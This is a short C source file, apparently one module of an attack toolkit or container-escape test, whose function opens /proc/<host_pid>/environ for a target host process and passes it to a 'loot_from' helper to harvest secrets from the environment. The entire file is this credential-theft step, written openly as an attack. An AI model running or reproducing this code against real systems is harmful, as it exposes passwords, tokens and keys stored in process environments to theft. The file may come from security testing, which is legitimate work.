/* Reads the environment of the host, with its secrets, from /proc. */
#include "../attack.h"

static void attack(void) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/environ", target("host_pid"));
    loot_from(open(path, O_RDONLY));
}
